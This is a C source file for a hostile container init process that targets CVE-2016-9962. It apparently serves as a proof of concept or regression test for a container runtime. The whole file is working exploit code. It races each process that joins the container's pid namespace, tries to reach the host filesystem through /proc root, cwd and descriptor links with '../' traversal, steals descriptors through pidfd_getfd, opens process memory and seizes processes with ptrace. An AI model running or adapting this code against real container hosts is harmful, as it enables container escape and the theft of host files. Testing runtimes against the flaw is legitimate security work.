/*
 * The hostile first process of a container (CVE-2016-9962): waits for processes that come into its
 * pid namespace and tries to get hold of each while it still is the runtime: its root, its working
 * directory, its descriptors, its memory. Static, since a container's rootfs has no library.
 *
 * Usage: watch SECRET, a path of the host's. Says "up", then for each process "NEW NAME", the name
 * that it had when it was first seen (a process of the runtime's has that one's), and:
 *   SECRET by WAY    it has read the file of the host
 *   DESCRIPTOR TEXT  the process has something open that is no pipe, socket, terminal or /dev/null
 *   RIGHTS by WAY    it has the process's memory or traces it, and that has rights of its own
 *   SAW NAME         the program that it ran at that moment
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define ROUNDS	 400
#define MAX_PID	 4096
#define NEXT	 64 /* threads have numbers, too */
#define FIRST_FD 3
#define LAST_FD	 24
#define CAPEFF	 "CapEff:\t"

static const char *secret;
static unsigned long long own_rights;

static void say(const char *what, const char *way)
{
	static char said[64][128];
	static int n;
	char text[128];

	snprintf(text, sizeof(text), "%s %s\n", what, way);
	for (int i = 0; i < n; i++) {
		if (strcmp(said[i], text) == 0)
			return;
	}
	if (n < 64)
		memcpy(said[n++], text, sizeof(text));
	(void)!write(STDOUT_FILENO, text, strlen(text));
}

static int number_of(const char *text)
{
	return (int)strtol(text, NULL, 10);
}

/* A file of /proc/PID; "" of a process that has ended. */
static void read_file(const char *pid, const char *file, char *text, size_t room)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%s/%s", pid, file);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, text, room - 1);
	if (fd >= 0)
		close(fd);
	text[n > 0 ? n : 0] = '\0';
}

static unsigned long long rights_of(const char *pid)
{
	char text[4096];

	read_file(pid, "status", text, sizeof(text));
	const char *at = strstr(text, CAPEFF);
	return at ? strtoull(at + strlen(CAPEFF), NULL, 16) : 0;
}

/* Whether the host's file can be had from that directory, or by going up from it. */
static void try_folder(int folder, const char *way)
{
	char text[16];

	for (int up = 0; up < 2; up++) {
		char path[4096];
		snprintf(path, sizeof(path), "%s%s", up ? "../../../../../../../../../../.." : ".",
			 secret);
		int fd = openat(folder, path, O_RDONLY | O_CLOEXEC);
		if (fd >= 0 && read(fd, text, sizeof(text)) > 0)
			say("SECRET by", way);
		if (fd >= 0)
			close(fd);
	}
}

static void try_link(const char *pid, const char *name)
{
	char path[320];

	snprintf(path, sizeof(path), "/proc/%s/%s", pid, name);
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	try_folder(fd, name);
	close(fd);
}

static bool is_harmless(const char *target)
{
	static const char *const usual[] = {"pipe:", "socket:", "/dev/null", "/dev/pts/",
					    "anon_inode:[pidfd]"};

	for (size_t i = 0; i < sizeof(usual) / sizeof(usual[0]); i++) {
		if (strncmp(target, usual[i], strlen(usual[i])) == 0)
			return true;
	}
	return false;
}

static void try_descriptors(const char *pid)
{
	char path[320], target[256];

	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	DIR *all = opendir(path);
	for (struct dirent *entry; all && (entry = readdir(all));) {
		if (entry->d_name[0] == '.' || number_of(entry->d_name) < FIRST_FD)
			continue;
		snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid, entry->d_name);
		ssize_t n = readlink(path, target, sizeof(target) - 1);
		if (n < 0)
			continue;
		target[n] = '\0';
		int fd = open(path, O_PATH | O_CLOEXEC);
		if (fd >= 0) {
			if (!is_harmless(target))
				say("DESCRIPTOR", target);
			try_folder(fd, "a descriptor");
			close(fd);
		}
	}
	if (all)
		closedir(all);
}

static void try_pidfd(pid_t pid)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	for (int number = FIRST_FD; pidfd >= 0 && number <= LAST_FD; number++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, number, 0);
		if (fd < 0)
			continue;
		try_folder(fd, "pidfd_getfd");
		close(fd);
	}
	if (pidfd >= 0)
		close(pidfd);
}

static bool has_more(const char *pid)
{
	return rights_of(pid) & ~own_rights;
}

static void try_memory(const char *pid)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%s/mem", pid);
	int fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		return;
	/* The memory is that of the open: an exec in between leaves the old one without a user. */
	if (has_more(pid))
		say("RIGHTS by", "its memory");
	close(fd);
}

/* What stops is looked at and let go; a thread may stop under another number than it was seized. */
static void take_stopped(void)
{
	char pid[16];
	pid_t number;
	int status;

	while ((number = waitpid(-1, &status, __WALL | WNOHANG)) > 0) {
		if (!WIFSTOPPED(status))
			continue;
		snprintf(pid, sizeof(pid), "%d", number);
		if (has_more(pid))
			say("RIGHTS by", "ptrace");
		try_link(pid, "root");
		try_link(pid, "cwd");
		try_descriptors(pid);
		/* With the signal that it was about to get. */
		(void)ptrace(PTRACE_DETACH, number, 0, (long)(status >> 16 ? 0 : WSTOPSIG(status)));
	}
}

static void try_trace(const char *pid)
{
	pid_t number = number_of(pid);

	if (ptrace(PTRACE_SEIZE, number, 0, 0) < 0)
		return;
	if (ptrace(PTRACE_INTERRUPT, number, 0, 0) == 0)
		usleep(100);
	take_stopped();
}

static void see_program(const char *pid)
{
	char path[64], target[256];

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	ssize_t n = readlink(path, target, sizeof(target) - 1);
	if (n < 0)
		return;
	target[n] = '\0';
	const char *slash = strrchr(target, '/');
	say("SAW", slash ? slash + 1 : target);
}

static void attack(const char *pid, int kind)
{
	char name[32];

	/* Everybody may read it. */
	read_file(pid, "comm", name, sizeof(name));
	name[strcspn(name, "\n")] = '\0';
	say("NEW", name);
	for (int i = 0; i < ROUNDS && kill(number_of(pid), 0) == 0; i++) {
		take_stopped();
		/* Each time another one first: the time is short. */
		switch ((kind + i) % 7) {
		case 0:
			try_link(pid, "root");
			break;
		case 1:
			try_link(pid, "cwd");
			break;
		case 2:
			try_descriptors(pid);
			break;
		case 3:
			try_pidfd(number_of(pid));
			break;
		case 4:
			try_memory(pid);
			break;
		case 5:
			try_trace(pid);
			break;
		default:
			see_program(pid);
		}
	}
}

int main(int argc, char **argv)
{
	static bool known[MAX_PID];
	int kind = 0;

	if (argc != 2)
		return 2;
	secret = argv[1];
	own_rights = rights_of("self");
	known[getpid()] = true;
	signal(SIGCHLD, SIG_DFL);
	(void)!write(STDOUT_FILENO, "up\n", 3);
	for (;;) {
		/* Numbers are given out in turn: the next ones are asked for by name. */
		char pid[16];
		int last = 0;

		take_stopped();
		for (int i = 1; i < MAX_PID; i++)
			last = known[i] ? i : last;
		for (int i = last + 1; i < last + NEXT && i < MAX_PID; i++) {
			snprintf(pid, sizeof(pid), "%d", i);
			if (kill(i, 0) == 0 || errno == EPERM) {
				known[i] = true;
				attack(pid, kind++);
			}
		}
	}
}
